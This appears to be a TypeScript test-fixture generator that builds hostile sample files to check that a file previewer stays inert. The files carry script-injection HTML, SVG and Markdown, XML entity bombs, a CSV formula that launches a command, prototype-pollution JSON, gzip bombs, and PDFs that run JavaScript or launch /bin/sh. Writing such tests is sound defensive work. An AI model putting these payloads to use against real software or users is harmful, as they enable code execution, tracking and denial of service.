import { deflateSync, gzipSync } from 'node:zlib'
import { pdfFile } from '../../electron/playground/sample/pdf.ts'

const BOMB_BYTES = 64 * 1024 * 1024

/**
 * Files that try to run something, to tell somebody that they were looked at, or to keep the window
 * busy. `canary` is an address that nobody has a reason to ask; `ran()` tells on a script that runs.
 */
export function hostileFiles(canary: string): Record<string, string | Uint8Array> {
  const ran = `window.canaryRan=1;fetch('${canary}/script')`
  return { ...pages(canary, ran), ...drawings(canary, ran), ...texts(canary), ...binaries(canary) }
}

function pages(canary: string, ran: string): Record<string, string> {
  return {
    'page-script.html': `<script>${ran}</script>`,
    'page-onerror.html': `<img src=x onerror="${ran}"><svg onload="${ran}">`,
    'page-loads.html': `<img src="${canary}/img"><link rel=stylesheet href="${canary}/css"><video poster="${canary}/poster" src="${canary}/film">`,
    'page-frames.html': `<iframe src="${canary}/frame"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed">`,
    'page-refresh.html': `<meta http-equiv=refresh content="0;url=${canary}/refresh"><base href="${canary}/">`,
    'page-form.html': `<form id=f action="${canary}/form"></form><script>f.submit()</script>`,
    'page-hints.html': `<link rel=dns-prefetch href="${canary}"><link rel=preconnect href="${canary}"><link rel=prefetch href="${canary}/ahead">`,
    'page-parent.html': `<script>parent.pail?.call({});top.location='${canary}/top'</script>`,
  }
}

function drawings(canary: string, ran: string): Record<string, string> {
  const svg = (inside: string, before = '') =>
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">${inside}</svg>`
  const levels = Array.from({ length: 40 }, (_, level) =>
    level === 0
      ? '<g id="u0"><rect width="9" height="9"/></g>'
      : `<g id="u${level}"><use href="#u${level - 1}"/><use href="#u${level - 1}"/></g>`,
  )
  const laughs = Array.from({ length: 12 }, (_, level) =>
    level === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
  )
  return {
    'drawing-script.svg': svg(`<script>${ran}</script><rect width="9" height="9"/>`),
    'drawing-onload.svg': svg(`<rect width="9" height="9" onload="${ran}"/>`),
    'drawing-image.svg': svg(`<image href="${canary}/image" width="9" height="9"/>`),
    'drawing-use.svg': svg(`<use href="${canary}/use.svg#a"/><a href="javascript:${ran}">x</a>`),
    'drawing-style.svg': svg(
      `<style>@import url("${canary}/import");*{fill:url(${canary}/f#a)}</style>`,
    ),
    'drawing-foreign.svg': svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/foreign"/></foreignObject>`,
    ),
    'drawing-laughs.svg': svg('<text>&l11;</text>', `<!DOCTYPE svg [${laughs.join('')}]>`),
    'drawing-copies.svg': svg(`<defs>${levels.join('')}</defs><use href="#u39"/>`),
    'feed-entity.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "${canary}/entity">]><a>&x;</a>`,
    'feed-style.xml': `<?xml-stylesheet href="${canary}/xsl" type="text/xsl"?><a/>`,
  }
}

function texts(canary: string): Record<string, string | Uint8Array> {
  return {
    'text-html.md': `<script>window.canaryRan=1</script>\n\n<img src="${canary}/md" onerror="window.canaryRan=1">`,
    'text-links.md': `![a](${canary}/picture)\n[b](javascript:window.canaryRan=1)\n<${canary}/auto>\n[c]: ${canary}/reference\n[c]`,
    'text-nested.md': `${'>'.repeat(50_000)}\n${'*a '.repeat(20_000)}\n${'['.repeat(20_000)}`,
    'table-formula.csv': `a,b\n=HYPERLINK("${canary}/cell"),=cmd|'/c calc'!A1\n`,
    'table-wide.csv': `${'a,'.repeat(50_000)}\n${'1,'.repeat(50_000)}\n`,
    'value-deep.json': '['.repeat(30_000) + ']'.repeat(30_000),
    'value-proto.json': '{"__proto__":{"canaryRan":1},"constructor":{"prototype":{"canaryRan":1}}}',
    'value-many.json': `{${Array.from({ length: 4000 }, (_, n) => `"k${n}":${n}`).join()}}`,
    'list.m3u8': `#EXTM3U\n#EXTINF:9,\n${canary}/segment.ts\n`,
    'line-long.js': `var a="${'x'.repeat(3_000_000)}"`,
    'bomb-text.log.gz': gzipSync(Buffer.alloc(BOMB_BYTES, 'x')),
    'bomb-page.html.gz': gzipSync(`<script>window.canaryRan=1</script>${' '.repeat(BOMB_BYTES)}`),
  }
}

function binaries(canary: string): Record<string, Uint8Array> {
  const plain = pdfFile([{ heading: 'Hello', lines: ['…'] }]).toString('latin1')
  const catalog = (more: string) =>
    Buffer.from(plain.replace('/Type /Catalog', `/Type /Catalog ${more}`), 'latin1')
  const script = `<< /S /JavaScript /JS (app.launchURL\\('${canary}/pdf'\\);this.submitForm\\('${canary}/submit'\\)) >>`
  return {
    'paper-script.pdf': catalog(`/OpenAction ${script} /AA << /WC ${script} >>`),
    'paper-link.pdf': catalog(`/OpenAction << /S /URI /URI (${canary}/uri) >>`),
    'paper-launch.pdf': catalog('/OpenAction << /S /Launch /F (/bin/sh) >>'),
    'paper-form.pdf': catalog('/AcroForm << /XFA (<xdp><script>1</script></xdp>) >>'),
    'paper-huge.pdf': Buffer.from(plain.replace('[0 0 595 842]', '[0 0 9e9 9e9]'), 'latin1'),
    'paper-broken.pdf': Buffer.from(`${plain.slice(0, 200)}%%EOF`, 'latin1'),
    'picture-huge.png': png(60_000, 60_000),
    'picture-huge.jpg': Buffer.from('ffd8ffc0001108ffffffff03011100021100031100ffd9', 'hex'),
    'picture-huge.gif': Buffer.from('GIF89a\xff\xff\xff\xff\x00\x00\x00;', 'latin1'),
    'picture-page.png': Buffer.from(`<html><script>window.canaryRan=1</script>`),
    'bomb-picture.png.gz': gzipSync(Buffer.concat([png(9, 9), Buffer.alloc(BOMB_BYTES)])),
    'rows-footer.parquet': Buffer.from('PAR1\xff\xff\xff\x7fPAR1', 'latin1'),
    'rows-rubbish.parquet': Buffer.from(
      `PAR1${'\x19\x2c'.repeat(500)}\xe8\x03\x00\x00PAR1`,
      'latin1',
    ),
    'film-elsewhere.mp4': Buffer.from(
      `\0\0\0\x18ftypisom\0\0\0\0isommp42\0\0\0\x40moov\0\0\0\x38dref\0\0\0\0\0\0\0\x01url \0\0\0\0${canary}/dref`,
      'latin1',
    ),
    'sound-broken.wav': Buffer.from('RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff', 'latin1'),
  }
}

/** A picture that says how large it is and holds next to nothing. */
function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)])
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
